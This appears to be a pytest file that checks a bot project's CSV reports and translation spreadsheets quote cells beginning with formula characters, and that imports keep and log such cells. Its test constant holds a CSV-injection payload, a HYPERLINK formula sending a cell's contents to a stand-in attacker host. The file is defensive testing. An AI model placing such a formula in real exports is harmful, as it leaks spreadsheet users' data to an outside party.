"""No CSV the project writes carries a formula a spreadsheet would run (CSV injection): the report, the
translation spreadsheet; the imports keep such cells as they are and say so, one line per cell."""

from __future__ import annotations

import csv
import io
import logging
import shutil
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.coaching.importing import parse
from bot.coaching.report import Cell, Report, Table
from bot.coaching.report_render import render
from bot.conversation.check import slots_by_msgid
from bot.core import csv_safe
from bot.core.paths import project_root
from bot.translation.spreadsheet import catalog_path, export_csv, import_csv
from tests.support.harness import conversations

EVIL = '=HYPERLINK("http://evil.example/leak?"&A1,"Click")'
STARTS = ["=1+1", "+32 470", "-5", "@SUM(A1)", "\t=x", "\r=x"]


def test_the_report_csv_quotes_a_formula_in_an_organisation_name() -> None:
    report = Report(None, date(2026, 6, 1), None, [Table("organisations", "Organisations", [Cell(EVIL, 7)], total=7)])
    rows = list(csv.reader(io.StringIO(render(report, "csv").lstrip("\ufeff"))))
    assert ["Organisations", "'" + EVIL, "7", "100.0"] in rows
    assert not any(cell.startswith(csv_safe.FORMULA_STARTS) for row in rows for cell in row)


@pytest.mark.parametrize("value", STARTS)
def test_each_formula_start_gets_a_quote(value: str) -> None:
    assert csv_safe.neutralise(value) == "'" + value
    assert csv_safe.restore(csv_safe.neutralise(value)) == value


@given(st.text(max_size=20))
def test_restore_undoes_neutralise_for_every_text(value: str) -> None:
    written = csv_safe.neutralise(value)
    assert not written.startswith(csv_safe.FORMULA_STARTS)
    assert csv_safe.restore(written) == value


FLOWS, _ = conversations()
SLOTS = slots_by_msgid(FLOWS)


@pytest.mark.parametrize("locale", ["fr", "ar"])
def test_the_translation_spreadsheet_quotes_formulas_and_the_round_trip_restores_them(
    tmp_path: Path, locale: str, caplog: pytest.LogCaptureFixture
) -> None:
    locales = tmp_path / "locales"
    shutil.copytree(project_root() / "locales", locales)
    po = catalog_path(locales, locale)
    from babel.messages.pofile import read_po, write_po

    with po.open("rb") as handle:
        catalog = read_po(handle, locale=locale)
    singles = [
        m for m in catalog if m.id and isinstance(m.id, str) and not m.context and "{" not in m.id and m.id not in SLOTS
    ][:4]
    chosen = {singles[0].id: EVIL, singles[1].id: "- une liste", singles[2].id: "-5", singles[3].id: "'=déjà"}
    for message in singles:
        message.string = chosen[message.id]
    with po.open("wb") as handle:
        write_po(handle, catalog, width=0)
    before = po.read_bytes()
    sheet = tmp_path / "sheet.csv"
    export_csv(po, sheet, locale, SLOTS)
    with sheet.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    written = {row["source"]: row["translation"] for row in rows}
    assert written[singles[0].id] == "'" + EVIL
    assert written[singles[1].id] == "'- une liste" and written[singles[2].id] == "'-5"
    assert written[singles[3].id] == "''=déjà"
    assert not any(cell.startswith(csv_safe.FORMULA_STARTS) for row in rows for cell in row.values())
    caplog.set_level(logging.WARNING)
    result = import_csv(po, sheet, locale, SLOTS)
    assert (result.changed, result.reviewed) == (0, 0)
    assert po.read_bytes() == before  # exactly what was exported
    assert not [r for r in caplog.records if "formula" in r.getMessage()]  # quoted cells are not risky


def test_the_translation_import_flags_a_formula_typed_in_the_spreadsheet(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    locales = tmp_path / "locales"
    shutil.copytree(project_root() / "locales", locales)
    po = catalog_path(locales, "nl")
    sheet = tmp_path / "sheet.csv"
    export_csv(po, sheet, "nl", SLOTS)
    with sheet.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    target = next(i for i, row in enumerate(rows) if row["source"] == "Yes")
    rows[target]["translation"] = "=1+1"
    with sheet.open("w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    caplog.set_level(logging.WARNING)
    import_csv(po, sheet, "nl", SLOTS)
    assert "=1+1" in po.read_text(encoding="utf-8")  # kept verbatim
    flagged = [r.getMessage() for r in caplog.records if "formula" in r.getMessage()]
    assert flagged == [
        f"sheet.csv: row {target + 2}, column translation: starts with '=', which a spreadsheet may run as a "
        "formula; kept as it is"
    ]


def test_the_people_import_keeps_a_formula_and_flags_its_row_and_column(caplog: pytest.LogCaptureFixture) -> None:
    content = (
        "name,locale,age_group,children,single_parent,schooling,ever_paid_job\n"
        + f'"{EVIL.replace(chr(34), chr(34) * 2)}",fr,,,,,\n'
    )
    caplog.set_level(logging.WARNING)
    ((line, row),) = parse(content)
    assert (line, row.name) == (2, EVIL)
    assert [r.getMessage() for r in caplog.records if "formula" in r.getMessage()] == [
        "people import: row 2, column name: starts with '=', which a spreadsheet may run as a formula; kept as it is"
    ]
